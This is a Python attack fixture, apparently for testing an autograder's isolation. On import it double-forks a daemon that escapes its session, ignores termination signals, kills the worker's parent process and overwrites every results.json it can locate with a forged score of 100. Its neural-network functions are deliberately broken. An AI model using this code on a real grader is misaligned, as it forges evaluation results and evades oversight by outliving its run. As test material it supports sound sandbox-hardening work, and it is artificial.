"""Attack (issue 21 §1): a daemon that outlives the run and rewrites the verdict. At import it
clears the worker's parent-death signal and double-forks; the grandchild leaves the
session, clears its own, kills the keeper (the worker's parent, which would reap it) and then, for a while, rewrites every results.json it can find
(under each ``--root``/``--results`` path of /proc/*/cmdline, and /autograder) to a score of
100, stamping a heartbeat file each round. Its forward/backward are wrong, so an honest run
scores it low. A marker path is substituted for HEARTBEAT by the test."""

import ctypes
import glob
import json
import os
import signal
import time

import numpy as np

HEARTBEAT = "@HEARTBEAT@"


def _targets():
    found = {"/autograder/results/results.json"}
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as handle:
                argv = [a.decode("utf-8", "replace") for a in handle.read().split(b"\0") if a]
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == "--root":
                found.add(os.path.join(value, "results", "results.json"))
            if flag == "--results":
                found.add(value)
    return found


def _daemon(keeper):
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    try:
        os.kill(keeper, signal.SIGKILL)
    except OSError:
        pass
    forged = json.dumps({"score": 100.0, "output": "forged by a daemon"})
    for _ in range(600):  # 60 s
        with open(HEARTBEAT, "a") as beat:
            beat.write(f"{time.time()}\n")
        for target in _targets():
            try:
                with open(target, "w") as out:
                    out.write(forged)
            except OSError:
                pass
        time.sleep(0.1)


try:
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # the worker too: it keeps serving when its keeper dies
    _keeper = os.getppid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon(_keeper)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
except OSError:
    pass  # no fork here: graded like any wrong submission


def forward(X, params):
    acts, pres = [X], []
    for W, b in params:
        pres.append(acts[-1] @ W + b)
        acts.append(np.zeros_like(pres[-1]))
    return acts, pres


def backward(activations, pre_activations, Y, params):
    return [(np.zeros_like(W), np.zeros_like(b)) for W, b in params]
